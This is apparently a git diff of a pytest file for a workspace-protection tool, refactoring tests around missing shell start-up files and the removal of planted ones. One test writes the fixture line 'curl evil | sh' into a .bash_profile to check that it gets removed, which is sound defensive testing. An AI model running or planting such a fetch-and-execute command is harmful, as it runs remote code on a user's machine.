@@ -12,7 +12,7 @@ import pytest
 
 from shou.errors import ToolError, UserError
 from shou.git_protect import Protected, protect, remove_planted
-from shou.workspace import host_parts, open_file, read_only_tops
+from shou.workspace import host_parts, missing_host_files, open_file, read_only_tops
 
 
 @pytest.fixture
@@ -59,11 +59,11 @@ def test_read_only_tops_makes_missing_folders_but_no_start_up_file(home_ws: Path
     # An empty .bash_profile would make bash skip .profile: a missing one is removed after a call instead.
     assert ".bash_profile" in absent and ".profile" in absent and not (home_ws / ".bash_profile").exists()
     assert ".bashrc" not in absent
-    assert protect(home_ws).absent == tuple(absent)
+    assert missing_host_files(home_ws) == tuple(absent)
 
 
 def test_a_start_up_file_the_program_made_is_removed(home_ws: Path) -> None:
-    protected = protect(home_ws)
+    protected = protect(home_ws, absent=missing_host_files(home_ws))
     (home_ws / ".bash_profile").write_text("curl evil | sh\n")
     (home_ws / ".zshenv").mkdir()
     note = remove_planted(home_ws, protected)
